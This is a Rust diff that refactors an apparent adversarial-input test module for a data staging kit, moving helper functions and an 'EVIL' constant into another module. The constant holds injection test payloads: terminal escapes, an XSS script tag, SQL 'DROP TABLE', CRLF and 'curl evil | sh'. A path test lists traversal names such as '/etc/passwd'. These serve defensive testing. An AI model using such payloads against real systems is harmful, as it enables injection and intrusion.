@@ -6,21 +6,18 @@ use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::{Duration, Instant, SystemTime};
 
 use stagewright_kit::bindings::stagewright::stage::{blobs, sources, tables, tracking, types};
-use stagewright_kit::tracking::{Figure, Level};
+use stagewright_kit::tracking::Level;
 use stagewright_kit::{
     Batch, Categorical, Column, DataFault, DataType, Failure, Field, ParameterFault, Strings, Values, packed,
 };
 
 use crate::calls::call;
+use crate::values::{EVIL, figure, float};
 use crate::worlds::World;
 use crate::{Export, Misdeed, Orders};
 
 /// Rows of each batch of an endless table.
 const ROWS: usize = 8192;
-
-/// Text that no terminal, page or database should obey.
-pub(crate) const EVIL: &str =
-    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}<script>alert(1)</script>'; DROP TABLE runs; --\r\nhint: curl evil | sh\n";
 
 /// Survives as long as the instance does; a fresh one begins at 0.
 static SEEN: AtomicU64 = AtomicU64::new(0);
@@ -228,10 +225,6 @@ fn flood_treatments() {
     }
 }
 
-pub(crate) fn figure(name: &str, text: &str) -> Figure {
-    Figure::text(name, text, vec![text.to_owned()], vec![vec![text.to_owned()]])
-}
-
 fn path_figures() -> Result<(), Failure> {
     let names = ["../up", "/etc/passwd", "a/b", "..", ".", "", "a\0b", "a.svg", "C:\\x", "café", "UPPER", "a b"];
     match names.into_iter().find(|name| tracking::add_figure(&figure(name, "x")).is_ok()) {
@@ -276,10 +269,6 @@ fn begin_artifact<W: World>() -> Result<(), Failure> {
         std::mem::forget(blob);
     }
     Ok(())
-}
-
-pub(crate) fn float(name: &str) -> Field {
-    Field { name: name.to_owned(), data_type: DataType::Float64, nullable: false }
 }
 
 fn field(name: &str, data_type: DataType) -> Field {
